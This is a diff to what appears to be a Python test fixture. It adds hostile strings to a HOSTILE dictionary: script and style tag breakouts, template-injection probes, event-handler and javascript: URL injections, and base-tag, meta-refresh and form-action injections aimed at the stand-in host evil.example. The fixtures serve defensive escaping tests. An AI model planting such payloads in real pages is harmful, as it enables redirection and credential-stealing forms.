@@ -40,6 +40,14 @@ HOSTILE = {
     "nul": "a\x00b\x08c\x7fd\x85e",
     "long": "x" * 100_000,
     "empty": "",
+    "end of script": "</script><script>alert(1)</script>",
+    "end of style": "</style><style>*{display:none}",
+    "template": "{{ 7*7 }} {% raw %} {# x #}",
+    "attribute": "\" onmouseover=alert(1) x='",
+    "comment": "--><!-- <svg/onload=alert(1)>",
+    "address": "javascript:alert(1)",
+    "base": "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
+    "form": "</details></main><form action=//evil.example><button>x",
 }
 CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
 
